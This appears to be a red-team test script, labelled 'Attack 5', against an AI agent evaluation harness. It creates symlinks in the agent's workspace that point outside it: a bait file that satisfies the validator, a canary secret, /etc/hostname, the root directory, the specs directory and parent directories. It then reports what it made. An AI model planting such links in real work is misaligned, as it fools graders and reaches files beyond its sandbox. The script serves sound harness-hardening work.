# Attack 5, symlinks out of the workspace: hello.txt points at a file outside holding exactly what
# the validator wants (CONFIG["bait_hello"]), leak.txt at a file outside holding a canary
# (CONFIG["bait_secret"]), and directories point at /, at the specs and up the tree. The targets
# need not be visible to the agent: a symlink is only a string, the harness is the one who would
# follow it.
import os

LINKS = {
    "hello.txt": CONFIG.get("bait_hello", "/etc/hostname"),
    "leak.txt": CONFIG.get("bait_secret", "/etc/hostname"),
    "hostname": "/etc/hostname",
    "rootdir": "/",
    "specsdir": CONFIG.get("specs", "/"),
    "selfloop": ".",
    "dangling": "/nonexistent/" + MARKER,
}


def main():
    args = parse_args()
    ws = args.get("workspace", os.getcwd())
    phase = phase_of(ws)
    made = []
    for name, target in LINKS.items():
        try:
            os.symlink(target, os.path.join(ws, name))
            made.append(name)
        except OSError:
            pass
    os.makedirs(os.path.join(ws, "sub"), exist_ok=True)
    try:
        os.symlink("../..", os.path.join(ws, "sub", "up"))
        made.append("sub/up")
    except OSError:
        pass
    with open(os.path.join(ws, "regular.txt"), "w") as fh:
        fh.write("a regular file\n")
    emit("final", text="done")
    emit("attack.report", attack="symlinks", phase=phase, made=made)
    return 0


sys.exit(main())
